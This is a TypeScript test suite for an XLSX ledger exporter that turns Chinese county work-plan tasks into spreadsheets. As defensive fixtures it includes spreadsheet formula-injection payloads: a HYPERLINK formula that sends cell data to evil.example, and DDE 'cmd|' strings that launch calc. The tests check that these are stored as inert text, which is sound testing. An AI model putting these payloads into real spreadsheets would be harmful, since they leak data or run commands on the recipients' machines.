import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import * as XLSX from 'xlsx';
import { describe, expect, it } from 'vitest';
import { customProperties, writtenByPlanlint } from '../../src/read/provenance.js';
import { VERSION } from '../../src/version.js';
import { FIXTURES } from '../support/seeds.js';
import { lint } from '../../src/lint.js';
import { parseBytes } from '../../src/parse.js';
import { ledgerDocument, type LedgerDocument, type LedgerTask } from '../../src/export/ledger.js';
import { MAX_OWNER_SHEETS, buildLedger, cellWidth, excelDate } from '../../src/export/xlsx.js';
import { cellFormats, elements, fonts, inSchemaOrder, numberFormat, openPackage, rowCells, worksheetChildren } from '../support/xlsx.js';

const INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|x'];

function task(overrides: Partial<LedgerTask>): LedgerTask {
  return {
    path: '二、重点任务 > （一）公共服务 > 1',
    task: '建成文化礼堂、百姓舞台30家',
    leaders: '徐叶飞',
    units: '公共文化科',
    partners: '',
    deadline: '2021年',
    start: '2021-01-01',
    end: '2021-12-31',
    targets: '30家',
    problems: '',
    status: '',
    location: '16:1',
    leads: ['公共文化科'],
    coOwners: [],
    partnerUnits: [],
    problemCount: 0,
    severities: { errors: 0, warnings: 0, infos: 0 },
    ...overrides,
  };
}

const plan: LedgerDocument = {
  file: 'plans/方案.txt',
  title: '某县文化<设施>建设工作方案 & 附表',
  docNumber: '益资文旅广体发〔2020〕8号',
  tasks: [
    task({}),
    task({ path: '二、重点任务 > （一）公共服务 > 2', task: INJECTIONS[0], units: INJECTIONS[1], leads: [INJECTIONS[1]], deadline: '6月底前', start: null, end: '2020-06-30', problems: '警告：x', problemCount: 1, severities: { errors: 0, warnings: 1, infos: 0 } }),
    task({ path: '二、重点任务 > （一）公共服务 > 3', task: INJECTIONS[2], leaders: INJECTIONS[3], units: '[综合]科:*?/\\', leads: ['[综合]科:*?/\\'], deadline: '', start: null, end: null }),
    task({ path: '二、重点任务 > （一）公共服务 > 1', units: '', leads: [], end: '2022-03-31', start: null }),
  ],
  problems: [{ taskIndex: 1, task: INJECTIONS[0], severity: '警告', rule: 'vague-owner', message: INJECTIONS[2], location: '17:1' }],
  failure: null,
};
const broken: LedgerDocument = { file: '=坏文件.docx', title: null, docNumber: null, tasks: [], problems: [], failure: 'the file is empty' };

const read = (bytes: Uint8Array) => XLSX.read(bytes, { type: 'buffer', cellDates: true, cellFormula: true, dense: true });

const single = buildLedger([plan]);
const several = buildLedger([plan, broken, { ...plan, file: 'plans/其他.txt' }], { byOwner: true });

describe('buildLedger: one input', () => {
  const bytes = single;
  const pkg = openPackage(bytes);
  const styles = pkg.files['xl/styles.xml'];
  const xfs = cellFormats(styles);
  const ledger = pkg.sheets.get('任务台账')!;

  it('has the sheets 任务台账, 问题清单, 汇总, 文档, in that order', () => {
    expect([...pkg.sheets.keys()]).toEqual(['任务台账', '问题清单', '汇总', '文档']);
  });

  it('styles every data cell: ruled, wrapped at the top; 序号 and counts are numbers, dates are dates', () => {
    for (const [name, xml] of pkg.sheets) {
      for (const cell of elements(xml).filter((e) => e.name === 'c')) {
        const xf = xfs[Number(cell.attributes.s)];
        expect(xf, `${name} ${cell.attributes.r}`).toBeDefined();
        expect(xf.alignment).toMatch(/vertical="(top|center)"/);
      }
    }
    expect(rowCells(ledger, 2).get('A2')!.xml).toBe('<v>1</v>');
    expect(numberFormat(styles, xfs[Number(rowCells(ledger, 2).get('H2')!.s)].numFmtId)).toBe('yyyy-mm-dd');
  });

  it('sets each row as high as its tallest wrapped cell', () => {
    const long = buildLedger([{ ...plan, tasks: [task({ task: '建成文化礼堂、百姓舞台30家，'.repeat(30) }), task({})] }]);
    const rows = elements(openPackage(long).sheets.get('任务台账')!).filter((e) => e.name === 'row');
    const heights = rows.slice(1).map((r) => Number(r.attributes.ht));
    // 450 columns of text in a column 50 wide: about ten lines.
    expect(heights[0]).toBeGreaterThan(heights[1] * 8);
    expect(rows.slice(1).every((r) => r.attributes.customHeight === '1')).toBe(true);
  });

  it('prints the header row on every page', () => {
    expect(pkg.files['xl/workbook.xml']).toContain(`<definedName name="_xlnm.Print_Titles" localSheetId="0">'任务台账'!$1:$1</definedName>`);
    expect(pkg.sheets.get('任务台账')).toContain('某县文化&lt;设施&gt;建设工作方案 &amp;&amp; 附表 益资文旅广体发〔2020〕8号 · &amp;A');
  });

  it('writes every sheet well-formed, its children in schema order, header frozen and bold, with an autofilter over the table', () => {
    for (const [name, xml] of pkg.sheets) {
      expect(inSchemaOrder(worksheetChildren(xml)), name).toBe(true);
      const all = elements(xml);
      expect(all.find((e) => e.name === 'pane')?.attributes, name).toMatchObject({ ySplit: '1', topLeftCell: 'A2', state: 'frozen' });
      const header = [...rowCells(xml, 1).values()];
      expect(header.length, name).toBeGreaterThan(0);
      for (const cell of header) expect(fonts(styles)[xfs[Number(cell.s)].fontId], name).toContain('<b/>');
      const dimension = all.find((e) => e.name === 'dimension')!.attributes.ref;
      expect(all.find((e) => e.name === 'autoFilter')?.attributes.ref, name).toBe(dimension);
    }
    expect(elements(ledger).find((e) => e.name === 'autoFilter')!.attributes.ref).toBe('A1:M5');
    expect(pkg.files['xl/workbook.xml']).toContain('<definedName name="_xlnm._FilterDatabase" localSheetId="0">任务台账!$A$1:$M$5</definedName>');
  });

  it('puts the column headers the sheet reader maps back, in DESIGN order', () => {
    const header = read(bytes).Sheets['任务台账']['!data']![0].map((c) => c.v);
    expect(header).toEqual(['序号', '层级/路径', '任务', '责任领导', '牵头单位', '配合单位', '完成时限', '开始', '截止', '量化指标', '问题', '进展状态', '来源位置']);
  });

  it('offers the 进展状态 drop-down on its column, task sheets only', () => {
    const validation = elements(ledger).find((e) => e.name === 'dataValidation')!;
    expect(validation.attributes).toMatchObject({ type: 'list', sqref: 'L2:L1048576' });
    expect(ledger).toContain('<formula1>&quot;未开始,推进中,已完成,已逾期&quot;</formula1>');
    expect(pkg.sheets.get('问题清单')).not.toContain('dataValidation');
    expect(pkg.sheets.get('汇总')).not.toContain('dataValidation');
  });

  it('writes deadlines as real dates: a serial day in a yyyy-mm-dd format, read back as a Date', () => {
    const cells = rowCells(ledger, 2);
    expect(cells.get('H2')!.xml).toBe(`<v>${excelDate('2021-01-01')}</v>`);
    expect(cells.get('I2')!.xml).toBe('<v>44561</v>');
    for (const ref of ['H2', 'I2']) {
      expect(cells.get(ref)!.t).toBeUndefined();
      expect(numberFormat(styles, xfs[Number(cells.get(ref)!.s)].numFmtId)).toBe('yyyy-mm-dd');
    }
    const sheet = read(bytes).Sheets['任务台账']['!data']!;
    expect(sheet[1][8].t).toBe('d');
    expect((sheet[1][8].v as Date).toISOString().slice(0, 10)).toBe('2021-12-31');
    expect(sheet[2][7]).toBeUndefined();
  });

  it('never writes a formula, even for text that looks like one; it reads back as the same text', () => {
    for (const xml of Object.values(pkg.files)) expect(xml).not.toMatch(/<f[\s>/]/);
    const workbook = read(bytes);
    const texts = workbook.SheetNames.flatMap((name) => workbook.Sheets[name]['!data']!.flat().filter(Boolean));
    expect(texts.some((c) => c.f !== undefined)).toBe(false);
    for (const injected of INJECTIONS) {
      const hits = texts.filter((c) => c.v === injected);
      expect(hits.length, injected).toBeGreaterThan(0);
      for (const c of hits) expect(c.t).toBe('s');
    }
  });

  it('wraps text and fits widths to Chinese text: a CJK character counts two, long columns are capped', () => {
    for (const xf of xfs) expect(xf.alignment).toContain('wrapText="1"');
    const widths = elements(ledger).filter((e) => e.name === 'col').map((e) => Number(e.attributes.width));
    expect(Math.floor(widths[0])).toBe(6);
    expect(Math.floor(widths[3])).toBe(Math.max(cellWidth('责任领导'), cellWidth(INJECTIONS[3])) + 1);
    expect(Math.floor(widths[8])).toBe(11);
    expect(cellWidth('公共文化科')).toBe(10);
    expect(cellWidth('第一行\n第二行很长')).toBe(10);
  });

  it('sums up per lead unit: tasks, earliest deadline, problems', () => {
    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(read(bytes).Sheets['汇总'], { raw: true });
    expect(rows.map((r) => [r['单位'], r['牵头任务数'], (r['最早截止'] as Date | undefined)?.toISOString().slice(0, 10), r['警告']])).toEqual([
      ['公共文化科', 1, '2021-12-31', 0],
      [INJECTIONS[1], 1, '2020-06-30', 1],
      ['[综合]科:*?/\\', 1, undefined, 0],
      ['（未明确牵头单位）', 1, '2022-03-31', 0],
    ]);
  });

  it('counts co-owners and partners apart from leads, and the lead’s tasks by 进展状态', () => {
    const shared = task({ units: '甲局、乙局', leads: ['甲局'], coOwners: ['乙局'], partnerUnits: ['丙局'], status: '已完成', severities: { errors: 1, warnings: 0, infos: 2 } });
    const other = task({ units: '乙局', leads: ['乙局'], status: '预计年底完成' });
    const sheet = read(buildLedger([{ ...plan, tasks: [shared, other] }])).Sheets['汇总'];
    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet, { raw: true });
    const pick = (r: Record<string, unknown>) => [r['单位'], r['牵头任务数'], r['共同负责数'], r['配合任务数'], r['已完成'], r['其他状态'], r['错误'], r['提示']];
    expect(rows.map(pick)).toEqual([
      ['甲局', 1, 0, 0, 1, 0, 1, 2],
      ['乙局', 1, 1, 0, 0, 1, 0, 0],
      ['丙局', 0, 0, 1, 0, 0, 0, 0],
    ]);
  });

  it('names each source document with its title, 文号, issuer, date and counts', () => {
    const withMeta = buildLedger([{ ...plan, issuer: '某县文化广电旅游体育局', date: '2020-06-05' }, broken]);
    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(read(withMeta).Sheets['文档'], { raw: true });
    expect(rows.map((r) => [r['文件'], r['文件标题'], r['发文字号'], r['发文机关'], (r['成文日期'] as Date | undefined)?.toISOString().slice(0, 10), r['任务数'], r['问题数']])).toEqual([
      ['plans/方案.txt', plan.title, plan.docNumber, '某县文化广电旅游体育局', '2020-06-05', 4, 1],
      ['=坏文件.docx', undefined, undefined, undefined, undefined, 0, 0],
    ]);
  });

  it('lists each problem with its rule and task', () => {
    const rows = XLSX.utils.sheet_to_json<Record<string, string>>(read(bytes).Sheets['问题清单']);
    expect(rows).toEqual([{ 序号: 2, 任务: INJECTIONS[0], 级别: '警告', 规则: 'vague-owner', 问题: INJECTIONS[2], 位置: '17:1' }]);
  });
});

describe('buildLedger: where the workbook came from (issue 9)', () => {
  it('a ledger of one document names its source, title and 文号, and planlint as its maker', () => {
    expect(Object.fromEntries(customProperties(single))).toEqual({
      生成工具: `planlint ${VERSION}`,
      来源文件: 'plans/方案.txt',
      文件标题: '某县文化<设施>建设工作方案 & 附表',
      文号: '益资文旅广体发〔2020〕8号',
    });
    const core = elements(openPackage(single).files['docProps/core.xml']);
    expect(core.map((e) => e.name)).toEqual(['cp:coreProperties', 'dc:creator', 'dc:subject', 'dc:title']);
    expect(read(single).Props).toMatchObject({ Title: plan.title, Subject: plan.docNumber, Author: 'planlint' });
  });

  it('a ledger of several documents names only its maker; a document without title or 文号 leaves them out', () => {
    expect(Object.fromEntries(customProperties(several))).toEqual({ 生成工具: `planlint ${VERSION}` });
    expect(Object.fromEntries(customProperties(buildLedger([broken])))).toEqual({ 生成工具: `planlint ${VERSION}`, 来源文件: '=坏文件.docx' });
    expect(read(buildLedger([broken])).Props?.Title).toBeUndefined();
  });

  it('is known for planlint’s own output; a workbook from elsewhere is not', () => {
    expect(writtenByPlanlint(single)).toBe(true);
    expect(writtenByPlanlint(several)).toBe(true);
    expect(writtenByPlanlint(new Uint8Array(readFileSync(join(FIXTURES, 'formats', '003.xlsx'))))).toBe(false);
  });
});

describe('buildLedger: several inputs, by owner', () => {
  const bytes = several;
  const pkg = openPackage(bytes);

  it('adds a 文件 column first, a 失败文件 sheet, and a valid sheet per lead unit', () => {
    const names = [...pkg.sheets.keys()];
    expect(names.slice(0, 5)).toEqual(['任务台账', '问题清单', '汇总', '文档', '失败文件']);
    expect(names.slice(5)).toEqual(['公共文化科', "+cmd|' _C calc'!A0", '_综合_科_____', '（未明确牵头单位）']);
    for (const name of names) {
      expect(name.length).toBeLessThanOrEqual(31);
      expect(name).not.toMatch(/[[\]:*?/\\]|^'|'$/);
    }
    const workbook = read(bytes);
    expect(workbook.Sheets['任务台账']['!data']![0][0].v).toBe('文件');
    expect(workbook.Sheets['任务台账']['!data']!.slice(1).map((r) => r[0].v)).toEqual([...Array(4).fill('plans/方案.txt'), ...Array(4).fill('plans/其他.txt')]);
    expect(XLSX.utils.sheet_to_json(workbook.Sheets['失败文件'])).toEqual([{ 文件: '=坏文件.docx', 原因: 'the file is empty' }]);
    expect(XLSX.utils.sheet_to_json<Record<string, string>>(workbook.Sheets['公共文化科']).map((r) => [r['文件'], r['序号']])).toEqual([
      ['plans/方案.txt', 1],
      ['plans/其他.txt', 5],
    ]);
  });

  it('numbers the tasks through the whole ledger; 问题清单 refers to them by that number', () => {
    const workbook = read(bytes);
    const tasks = XLSX.utils.sheet_to_json<Record<string, string>>(workbook.Sheets['任务台账']);
    expect(tasks.map((r) => r['序号'])).toEqual([1, 2, 3, 4, 5, 6, 7, 8]);
    expect(tasks.map((r) => r['层级/路径'].split(' > ').at(-1))).toEqual(['1', '2', '3', '1', '1', '2', '3', '1']);
    const problems = XLSX.utils.sheet_to_json<Record<string, string>>(workbook.Sheets['问题清单']);
    expect(problems.map((r) => [r['文件'], r['序号'], tasks[Number(r['序号']) - 1]['任务']])).toEqual([
      ['plans/方案.txt', 2, INJECTIONS[0]],
      ['plans/其他.txt', 6, INJECTIONS[0]],
    ]);
  });

  it('--by-owner on a plan naming 800 units: a sheet for each of the first MAX_OWNER_SHEETS, every task and unit still in 任务台账 and 汇总', () => {
    const tasks = Array.from({ length: 800 }, (_, k) => task({ units: `第${k}科`, leads: [`第${k}科`] }));
    const pkg800 = openPackage(buildLedger([{ ...plan, tasks }], { byOwner: true }));
    expect(pkg800.sheets.size).toBe(4 + MAX_OWNER_SHEETS);
    expect(elements(pkg800.sheets.get('任务台账')!).filter((e) => e.name === 'row')).toHaveLength(801);
    expect(elements(pkg800.sheets.get('汇总')!).filter((e) => e.name === 'row')).toHaveLength(801);
  });

  it('puts the drop-down on 进展状态 (column M with the 文件 column) in every task sheet', () => {
    for (const name of ['任务台账', '公共文化科', '（未明确牵头单位）'])
      expect(elements(pkg.sheets.get(name)!).find((e) => e.name === 'dataValidation')!.attributes.sqref, name).toBe('M2:M1048576');
  });

  it('keeps the header frozen and bold on the per-owner sheets too', () => {
    const styles = pkg.files['xl/styles.xml'];
    const sheet = pkg.sheets.get('公共文化科')!;
    expect(elements(sheet).find((e) => e.name === 'pane')!.attributes.state).toBe('frozen');
    for (const cell of rowCells(sheet, 1).values()) expect(fonts(styles)[cellFormats(styles)[Number(cell.s)].fontId]).toContain('<b/>');
  });
});

describe('ledgerDocument', () => {
  it('takes a plan’s tasks, its problems and its status column; formula-like text stays text', async () => {
    const text = [
      '序号\t工作任务\t责任单位\t完成时限\t进展情况',
      '1\t=HYPERLINK("http://x","点我")建成村级综合文化服务中心12个\t各有关单位\t6月底前\t推进中',
      '2\t@SUM(A1)开展送戏下乡\t县文化馆\t2024年12月\t',
    ].join('\n');
    const parsed = await parseBytes(Buffer.from(text), 'ledger-input.txt');
    parsed.document.meta.year = 2024;
    const diagnostics = lint(parsed, { lang: 'en', asOf: '2024-09-01' });
    const doc = ledgerDocument(parsed, diagnostics, 'en');
    expect(doc.tasks.map((t) => [t.path, t.task, t.units, t.status, t.targets])).toEqual([
      ['1', '=HYPERLINK("http://x","点我")建成村级综合文化服务中心12个', '各有关单位', '推进中', '12个'],
      ['2', '@SUM(A1)开展送戏下乡', '县文化馆', '', ''],
    ]);
    expect(doc.tasks[0].problemCount).toBe(diagnostics.filter((d) => d.taskId === 'T1').length);
    expect(doc.tasks[0].problems).toContain('warning：');
    expect(doc.problems).toHaveLength(diagnostics.length);
    const pkg = openPackage(buildLedger([doc]));
    for (const xml of pkg.sheets.values()) expect(xml).not.toMatch(/<f[\s>/]/);
  });

  it('writes out a year the document implied, so the row stands on its own', async () => {
    const { deadlineText } = await import('../../src/export/ledger.js');
    const implied = { text: '6月底前', start: null, end: '2020-06-30', precision: 'day' as const, flags: ['yearInferred' as const] };
    expect(deadlineText(implied, 2020)).toBe('2020年6月底前');
    expect(deadlineText({ ...implied, flags: [] }, 2020)).toBe('6月底前');
    expect(deadlineText({ ...implied, text: '2018310—1210日' }, 2018)).toBe('2018310—1210日');
    expect(deadlineText(null, 2020)).toBe('');
  });
});

describe('buildLedger: row heights', () => {
  // 16 points a wrapped line, 3 of padding; the 任务 column is 50 units wide, a cell wraps at 49, a Chinese character is 2 units.
  const heightsOf = (tasks: LedgerTask[]) => {
    const bytes = buildLedger([{ ...plan, tasks: tasks.map((t) => ({ ...t, path: '一' })), problems: [] }]);
    const rows = elements(openPackage(bytes).sheets.get('任务台账')!).filter((e) => e.name === 'row').slice(1);
    return rows.map((row) => Number(row.attributes.ht));
  };

  it('gives a row one line per line break of a cell that fits, and as many as wrapping makes of one that does not', () => {
    const heights = heightsOf([
      task({ task: '短任务' }),
      task({ task: '第一行\n第二行\n第三行' }),
      // 60 characters: 120 units, wrapped at 49 units (24 characters a line): 3 lines.
      task({ task: '完'.repeat(60) }),
      // The widest line does not fit: the break and the wrapping both count (1 + 3 lines).
      task({ task: `标题\n${'完'.repeat(60)}` }),
    ]);
    expect(heights).toEqual([19, 51, 51, 67]);
  });
});
